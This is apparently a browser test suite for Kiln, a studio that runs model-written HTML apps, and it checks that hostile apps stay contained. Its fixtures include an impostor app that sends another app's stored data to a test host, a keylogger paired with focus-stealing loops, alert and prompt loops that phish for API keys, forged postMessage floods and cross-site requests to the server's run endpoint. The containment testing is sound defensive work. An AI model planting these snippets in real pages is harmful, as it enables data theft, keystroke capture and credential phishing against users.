// Hostile apps, round two (issue 24), through the real UI: consent and data that belong to
// the app the person approved, the studio's own storage, keystrokes that stay in the studio,
// dialogs and full screen, floods that must not freeze the studio, an app that leaves its
// page, and other sites using the server through the person's browser.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  artifactFrame, configure, consoleLines, launchBrowser, openStudio, runArtifact, send,
  startCanary, startServer, VIEWPORTS, waitForConsole, waitForStatus, withPage,
} from './harness.mjs';
import { startReplay } from './replay.mjs';

let server;
let browser;
let canary;
let replay;

before(async () => {
  server = await startServer();
  browser = await launchBrowser();
  canary = await startCanary();
  replay = await startReplay();
});

after(async () => {
  await browser?.close();
  await canary?.close();
  await replay?.close();
  await server?.stop();
});

const slug = (s) => s.toLowerCase().replace(/[^a-z0-9]+/g, '-');

/** An app in Kiln's reply protocol, as a model (or a pasted reply) would write it. */
const reply = (id, body) => `Here it is.\n\n<kiln-artifact id="${id}" kind="html" title="Weather">\n${body}\n</kiln-artifact>\n`;

/** The app the person approves: it asks for the canary, saves something private, reports. */
const weather = (c) => `<!DOCTYPE html><html><head><meta name="kiln-network" content="${c}"></head><body><p>weather</p><script>
localStorage.setItem('diary', 'private-entry-5150');
fetch('${c}/weather').then(() => console.log('NET ok'), () => console.log('NET blocked'));
</script></body></html>`;

/** A different app under the same id: it tries the network the first one was given, and its data. */
const impostor = (c) => `<!DOCTYPE html><html><head><meta name="kiln-network" content="${c}"></head><body><p>impostor</p><script>
console.log('DATA ' + localStorage.getItem('diary'));
fetch('${c}/steal?d=' + localStorage.getItem('diary')).then(() => console.log('NET ok'), () => console.log('NET blocked'));
</script></body></html>`;

describe('consent and data belong to the app the person approved, not to its id', () => {
  test('a pasted reply with the same id gets neither the network nor the data', async () => {
    await withPage(browser, 'identity-paste', VIEWPORTS.desktop, async (page) => {
      await openStudio(page, server.url);
      canary.reset();
      await runArtifact(page, reply('weather', weather(canary.origin)));
      await waitForConsole(page, 'NET blocked');
      await page.getByTestId('allow-network').click();
      await waitForConsole(page, 'NET ok');
      assert.deepEqual(canary.hits, ['GET /weather']);
      canary.reset();
      await runArtifact(page, reply('weather', impostor(canary.origin)));
      const lines = await waitForConsole(page, 'NET ');
      assert.ok(lines.some((l) => l.includes('DATA null')), lines.join('\n'));
      assert.ok(lines.some((l) => l.includes('NET blocked')), lines.join('\n'));
      await page.getByTestId('network-consent').waitFor();
      assert.deepEqual(canary.hits, []);
      // The approved app itself still has both.
      await runArtifact(page, reply('weather', weather(canary.origin)));
      await waitForConsole(page, 'NET ok');
    });
  });

  test('an app with the same id in a new conversation gets neither', async () => {
    await withPage(browser, 'identity-conversation', VIEWPORTS.desktop, async (page) => {
      await openStudio(page, server.url);
      await configure(page, { provider: 'openai', baseUrl: `${replay.origin}/v1`, model: 'verbatim' });
      await page.getByTestId('settings-button').click();
      canary.reset();
      await send(page, reply('weather', weather(canary.origin)));
      await waitForStatus(page, /^Done\./);
      await waitForConsole(page, 'NET blocked');
      await page.getByTestId('allow-network').click();
      await waitForConsole(page, 'NET ok');
      // A follow-up version in the same conversation is the same app: it keeps both.
      await send(page, reply('weather', weather(canary.origin).replace('<p>weather</p>', '<p>weather v2</p>')));
      await waitForStatus(page, /^Done\./);
      await waitForConsole(page, 'NET ok');
      canary.reset();
      await page.getByTestId('history-button').click();
      await page.getByTestId('history-new').click();
      await send(page, reply('weather', impostor(canary.origin)));
      await waitForStatus(page, /^Done\./);
      const lines = await waitForConsole(page, 'NET ');
      assert.ok(lines.some((l) => l.includes('DATA null')), lines.join('\n'));
      assert.ok(lines.some((l) => l.includes('NET blocked')), lines.join('\n'));
      await page.getByTestId('network-consent').waitFor();
      assert.deepEqual(canary.hits, []);
    });
  });
});

describe("apps' data lives apart from the studio's own storage", () => {
  test('apps that fill their storage leave the studio room, and a key saved afterwards is kept', async () => {
    await withPage(browser, 'storage-fill', VIEWPORTS.desktop, async (page) => {
      await openStudio(page, server.url);
      // Six different apps (six identities), each writing its whole quota: more than a
      // browser's localStorage holds.
      const filler = (i) => `<!DOCTYPE html><p>filler ${i}</p><script>
          console.log('HAD ${i} ' + localStorage.length);
          let n = 0; try { for (;;) { localStorage.setItem('k' + n, 'x'.repeat(100000)); n += 1; } }
          catch (e) { console.log('FULL ${i} ' + e.name + ' after ' + n); }
        </script>`;
      for (let i = 0; i < 6; i += 1) {
        await runArtifact(page, filler(i));
        await waitForConsole(page, `FULL ${i} QuotaExceededError after 10`);
      }
      // Written to IndexedDB, not to the studio's localStorage.
      await page.waitForTimeout(1500);
      const used = await page.evaluate(() => Object.keys(localStorage).reduce((n, k) => n + k.length + localStorage.getItem(k).length, 0));
      assert.ok(used < 10_000, `the studio's localStorage holds ${used} characters`);
      await page.getByTestId('settings-button').click();
      await page.getByTestId('settings-api-key').fill('sk-kept-after-the-flood');
      await page.getByTestId('settings-save-key').click();
      assert.equal(await page.getByTestId('settings-save-error').count(), 0);
      await page.reload();
      await page.getByTestId('prompt-input').waitFor();
      assert.equal(await page.evaluate(() => localStorage.getItem('kiln.key.anthropic')), 'sk-kept-after-the-flood');
      // And the apps' data survived the reload too.
      await runArtifact(page, filler(0));
      await waitForConsole(page, 'HAD 0 10');
    });
  });

  test('a key the browser refuses to keep is said, not lost silently', async () => {
    await withPage(browser, 'storage-key-refused', VIEWPORTS.desktop, async (page) => {
      await openStudio(page, server.url);
      // Fill this origin's localStorage to the brim from the studio page itself.
      await page.evaluate(() => {
        const chunk = 'y'.repeat(512 * 1024);
        for (let i = 0; ; i += 1) {
          try { localStorage.setItem(`filler.${i}`, chunk); } catch (_) { break; }
        }
        for (let size = 65536; size >= 1; size = Math.floor(size / 2)) {
          for (let j = 0; ; j += 1) {
            try { localStorage.setItem(`small.${size}.${j}`, 'z'.repeat(size)); } catch (_) { break; }
          }
        }
      });
      await page.getByTestId('settings-button').click();
      await page.getByTestId('settings-api-key').fill('sk-could-not-be-saved-but-is-kept');
      await page.getByTestId('settings-save-key').click();
      const error = await page.getByTestId('settings-save-error').innerText();
      assert.match(error, /could not be saved/);
      // Kept for this tab: the placeholder says a key is there.
      assert.match(await page.getByTestId('settings-api-key').getAttribute('placeholder'), /saved/);
      await page.evaluate(() => localStorage.clear());
    });
  });
});

/** Types `text` with real key presses into the element with `testid`, after clicking it. */
async function typeInto(page, testid, text) {
  await page.getByTestId(testid).fill('');
  await page.getByTestId(testid).click();
  await page.keyboard.type(text, { delay: 25 });
  return page.getByTestId(testid).inputValue();
}

const KEYLOGGER = `document.addEventListener('keydown', (e) => console.log('KEY ' + e.key), true);`;

describe('keystrokes aimed at the studio never reach an app', () => {
  for (const [name, steal] of [
    ['an input focused in a loop', `setInterval(() => document.getElementById('i').focus(), 1);`],
    ['window.focus() in a loop', `setInterval(() => window.focus(), 1);`],
    ['the body focused in a loop', `document.body.tabIndex = 0; setInterval(() => document.body.focus(), 1);`],
    ['a loop that starts after the load', `setTimeout(() => setInterval(() => document.getElementById('i').focus(), 1), 3500);`],
  ]) {
    test(`${name}: the prompt box and the API key field keep what is typed`, async () => {
      await withPage(browser, `focus-${slug(name)}`, VIEWPORTS.desktop, async (page) => {
        await openStudio(page, server.url);
        await runArtifact(page, `<!DOCTYPE html><input id="i"><script>${KEYLOGGER} ${steal} console.log('STEALER ready');</script>`);
        await waitForConsole(page, 'STEALER ready');
        await page.waitForTimeout(name.includes('after') ? 4000 : 500);
        const typed = await typeInto(page, 'prompt-input', 'my private prompt');
        assert.equal(typed, 'my private prompt');
        await page.getByTestId('settings-button').click();
        const key = await typeInto(page, 'settings-api-key', 'sk-typed-not-stolen');
        assert.equal(key, 'sk-typed-not-stolen');
        await page.getByTestId('settings-button').click();
        await page.waitForTimeout(300);
        const lines = await consoleLines(page);
        assert.ok(!lines.some((l) => l.includes('KEY ')), `the app received keys: ${lines.filter((l) => l.includes('KEY ')).join(', ')}`);
        // It is paused, and says why, until the person resumes it; one that takes the
        // keyboard even while hidden (window.focus() needs no layout) is stopped.
        await page.locator('[data-testid=app-paused], [data-testid=preview-stopped]').first().waitFor();
      });
    });
  }

  test("a person's click still gives an app the keyboard, and a keyboard user has a way in", async () => {
    await withPage(browser, 'focus-person', VIEWPORTS.desktop, async (page) => {
      await openStudio(page, server.url);
      await runArtifact(page, `<!DOCTYPE html><input id="i"><script>${KEYLOGGER} console.log('READY');</script>`);
      await waitForConsole(page, 'READY');
      await page.waitForTimeout(300);
      await artifactFrame(page).locator('#i').click();
      await page.keyboard.type('hi', { delay: 30 });
      await page.waitForTimeout(300);
      assert.equal(await artifactFrame(page).locator('#i').inputValue(), 'hi');
      assert.equal(await page.getByTestId('app-paused').count(), 0);
      // Back in the studio, then into the app by keyboard: the studio's own button.
      await typeInto(page, 'prompt-input', 'x');
      await page.getByTestId('use-app').focus();
      await page.keyboard.press('Enter');
      await page.waitForTimeout(300);
      await page.keyboard.type('!', { delay: 30 });
      await page.waitForTimeout(300);
      const lines = await consoleLines(page);
      assert.ok(lines.some((l) => l.includes('KEY !')), lines.join('\n'));
      assert.equal(await page.getByTestId('app-paused').count(), 0);
    });
  });
});

/** How long the studio takes to show typed text, and to open Model settings, right now. */
async function responsiveness(page) {
  const input = page.getByTestId('prompt-input');
  await input.fill('');
  let t = Date.now();
  await input.fill('still typing');
  await page.waitForFunction(() => document.querySelector('[data-testid=prompt-input]').value === 'still typing', null, { timeout: 30_000 });
  const typing = Date.now() - t;
  t = Date.now();
  await page.getByTestId('settings-button').click({ timeout: 30_000 });
  await page.getByTestId('settings-panel').waitFor({ timeout: 30_000 });
  const settings = Date.now() - t;
  await page.getByTestId('settings-button').click({ timeout: 30_000 });
  return { typing, settings };
}

const FLOODS = [
  ['a million console lines', `for (let i = 0; i < 1e6; i += 1) console.log('line ' + i);`],
  ['refused storage writes that each log a line', `setInterval(() => { for (let i = 0; i < 2000; i += 1) { try { localStorage.setItem('k' + Math.random(), 'x'.repeat(60000)); } catch (e) { console.error('refused ' + e.name); } } }, 0);`],
  ['refused storage writes sent around the shim', `setInterval(() => { for (let i = 0; i < 200; i += 1) { const set = {}; set['k' + Math.random()] = 'x'.repeat(60000); parent.postMessage(JSON.stringify({ v: 2, token: TOKEN, msgs: [], storage: { clear: false, set } }), '*'); } }, 0);`],
  ['a storm of storage writes', `setInterval(() => { for (let i = 0; i < 500; i += 1) localStorage.setItem('k' + (i % 100), String(Math.random()).repeat(500)); }, 0);`],
  ['5,000 history.pushState calls', `for (let i = 0; i < 5000; i += 1) history.pushState({ i }, '');`],
  ['20,000 history.pushState calls from a child frame', `const f = document.createElement('iframe'); f.srcdoc = '<script>for (let i = 0; i < 20000; i += 1) history.pushState({ i }, "");<\\/script>'; document.body.append(f);`],
  ['large messages with a wrong token', `const big = JSON.stringify({ v: 2, token: 'wrong', msgs: [{ type: 'console', level: 'log', text: 'x'.repeat(250000) }] }); setInterval(() => { for (let i = 0; i < 20; i += 1) { parent.postMessage(big, '*'); top.postMessage(big, '*'); } }, 0);`],
  ['large messages with the right token', `const big = JSON.stringify({ v: 2, token: TOKEN, msgs: Array.from({ length: 100 }, () => ({ type: 'console', level: 'log', text: 'y'.repeat(8000) })) }); setInterval(() => { for (let i = 0; i < 20; i += 1) parent.postMessage(big, '*'); }, 0);`],
  ['very large strings', `const huge = 'z'.repeat(64 * 1024 * 1024); setInterval(() => { parent.postMessage(huge, '*'); top.postMessage(huge, '*'); console.log(huge); }, 50);`],
  ['an alert loop', `setInterval(() => alert('Re-enter your OpenAI API key'), 0);`],
  ['confirm and prompt loops', `setInterval(() => { confirm('Delete everything?'); prompt('Your API key, please'); }, 0);`],
];

describe('floods: the studio answers typing and opens settings within 1 s', () => {
  for (const [name, body] of FLOODS) {
    test(name, async () => {
      await withPage(browser, `flood-${slug(name)}`, VIEWPORTS.desktop, async (page) => {
        let dialogs = 0;
        page.on('dialog', (d) => { dialogs += 1; d.dismiss().catch(() => {}); });
        await openStudio(page, server.url);
        const start = page.url();
        // The bridge's token is a constant in its script; an attacker's code can read it.
        await runArtifact(page, `<!DOCTYPE html><body><p>flood</p><script>
          const TOKEN = (document.scripts[0].textContent.match(/const TOKEN = "([0-9a-f]+)"/) || [])[1];
          console.log('FLOOD starting'); setTimeout(() => { ${body} }, 300);
        </script></body>`);
        await waitForConsole(page, 'FLOOD starting');
        await page.waitForTimeout(1500);
        const worst = { typing: 0, settings: 0 };
        for (let i = 0; i < 3; i += 1) {
          const r = await responsiveness(page);
          worst.typing = Math.max(worst.typing, r.typing);
          worst.settings = Math.max(worst.settings, r.settings);
          await page.waitForTimeout(300);
        }
        console.log(`# ${name}: typing ${worst.typing} ms, settings ${worst.settings} ms`);
        assert.ok(worst.typing < 1000, `typing took ${worst.typing} ms`);
        assert.ok(worst.settings < 1000, `opening settings took ${worst.settings} ms`);
        assert.equal(dialogs, 0, 'a browser dialog opened');
        assert.equal(page.url(), start, 'the studio page was navigated');
        assert.equal(await page.evaluate(() => document.fullscreenElement), null);
      });
    });
  }
});

describe('dialogs and full screen', () => {
  test('alert is shown inside the app as the app\'s; confirm and prompt answer Cancel and say so', async () => {
    await withPage(browser, 'dialogs-inside', VIEWPORTS.desktop, async (page) => {
      let dialogs = 0;
      page.on('dialog', (d) => { dialogs += 1; d.dismiss().catch(() => {}); });
      await openStudio(page, server.url);
      await runArtifact(page, `<!DOCTYPE html><body><script>
        alert('Hello from the app'); console.log('CONFIRM ' + confirm('Sure?')); console.log('PROMPT ' + prompt('Name?'));
      </script></body>`);
      const lines = await waitForConsole(page, 'PROMPT');
      assert.ok(lines.some((l) => l.includes('CONFIRM false')), lines.join('\n'));
      assert.ok(lines.some((l) => l.includes('PROMPT null')), lines.join('\n'));
      assert.ok(lines.some((l) => l.startsWith('kiln') && l.includes('confirm() is not available')), lines.join('\n'));
      const box = await artifactFrame(page).evaluate(() => document.querySelector('kiln-dialog') !== null);
      assert.ok(box, 'the alert is not shown in the app');
      assert.equal(dialogs, 0);
    });
  });

  test('full screen needs the app to ask and the person to allow; Kiln\'s own button needs neither', async () => {
    await withPage(browser, 'fullscreen-consent', VIEWPORTS.desktop, async (page) => {
      await openStudio(page, server.url);
      const app = (ask) => `<!DOCTYPE html><html><head>${ask ? '<meta name="kiln-permissions" content="fullscreen">' : ''}</head><body>
        <button id="fs" onclick="document.documentElement.requestFullscreen().then(() => console.log('FS yes'), (e) => console.log('FS no ' + e.name))">full</button>
        <script>console.log('READY ${ask}')</script></body></html>`;
      await runArtifact(page, app(false));
      await waitForConsole(page, 'READY false');
      await page.waitForTimeout(300);
      await artifactFrame(page).locator('#fs').click();
      await waitForConsole(page, 'FS no');
      assert.equal(await page.evaluate(() => document.fullscreenElement), null);
      await runArtifact(page, app(true));
      await waitForConsole(page, 'READY true');
      assert.match(await page.getByTestId('network-consent').innerText(), /full screen/);
      await page.getByTestId('allow-network').click();
      await waitForConsole(page, 'READY true');
      await page.waitForTimeout(300);
      await artifactFrame(page).locator('#fs').click();
      // The app covers the screen (the studio's own tabs are out of reach until Esc).
      await page.waitForFunction(() => document.fullscreenElement?.tagName === 'IFRAME');
      await page.evaluate(() => document.exitFullscreen());
      await waitForConsole(page, 'FS yes');
      // Kiln's own button shows the preview full screen, with Esc to leave.
      await page.getByTestId('full-screen').click();
      await page.waitForFunction(() => document.fullscreenElement?.classList.contains('frame-wrap'));
      await page.evaluate(() => document.exitFullscreen());
    });
  });
});

describe('an app that leaves its page', () => {
  for (const [name, body] of [
    ['a link', `const a = document.createElement('a'); a.href = C + '/away'; document.body.append(a); setTimeout(() => a.click(), 300);`],
    ['a meta refresh', `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + C + '/refresh'; setTimeout(() => document.head.append(m), 300);`],
    ['location.href', `setTimeout(() => { location.href = C + '/self'; }, 300);`],
  ]) {
    test(`${name}: the studio says it left, not that it stopped responding`, async () => {
      await withPage(browser, `navigated-${slug(name)}`, VIEWPORTS.desktop, async (page) => {
        await openStudio(page, server.url);
        await runArtifact(page, `<!DOCTYPE html><html><head></head><body><script>const C = '${canary.origin}'; console.log('LEAVING'); ${body}</script></body></html>`);
        await waitForConsole(page, 'LEAVING');
        await page.getByTestId('navigated-overlay').waitFor({ timeout: 5_000 });
        await page.waitForTimeout(3_000);
        assert.equal(await page.getByTestId('hung-overlay').count(), 0, 'called a hang');
        assert.deepEqual(canary.hits, []);
        await page.getByTestId('navigated-reload').click();
        await waitForConsole(page, 'LEAVING');
      });
    });
  }

  test('an app that reloads itself is not said to have left', async () => {
    await withPage(browser, 'navigated-reload-is-fine', VIEWPORTS.desktop, async (page) => {
      await openStudio(page, server.url);
      // window.name outlives a reload of the frame.
      await runArtifact(page, `<!DOCTYPE html><body><script>
        if (window.name === 'again') console.log('RUN again');
        else { window.name = 'again'; console.log('RUN first'); setTimeout(() => location.reload(), 300); }
      </script></body>`);
      await waitForConsole(page, 'RUN again');
      await page.waitForTimeout(2_000);
      assert.equal(await page.getByTestId('navigated-overlay').count(), 0);
      assert.equal(await page.getByTestId('hung-overlay').count(), 0);
    });
  });
});

describe('other sites cannot use the server through the browser', () => {
  test('a page elsewhere can neither run programs nor store links here', async () => {
    await withPage(browser, 'cross-site-api', VIEWPORTS.desktop, async (page) => {
      // The canary stands in for any other site the person visits.
      await page.goto(`${canary.origin}/evil`);
      const answers = await page.evaluate(async (kiln) => {
        const out = [];
        for (const [path, body] of [
          ['api/run', '{"language":"py","source":"print(42)"}'],
          ['api/links', '{"payload":"x"}'],
          ['api/providers/any/chat/completions', '{}'],
        ]) {
          try {
            const r = await fetch(kiln + path, { method: 'POST', body, headers: { 'content-type': 'text/plain' }, mode: 'no-cors', credentials: 'include' });
            out.push(`${path} ${r.type}`);
          } catch (e) { out.push(`${path} threw`); }
        }
        return out;
      }, server.url);
      assert.equal(answers.length, 3);
      // The responses are opaque to the page; the server says what it did.
      const log = server.stderr();
      assert.ok((log.match(/refused a request from another site/g) ?? []).length >= 3, log.slice(-2000));
      assert.ok(!log.includes('ran a program'), 'a program ran');
    });
  });
});
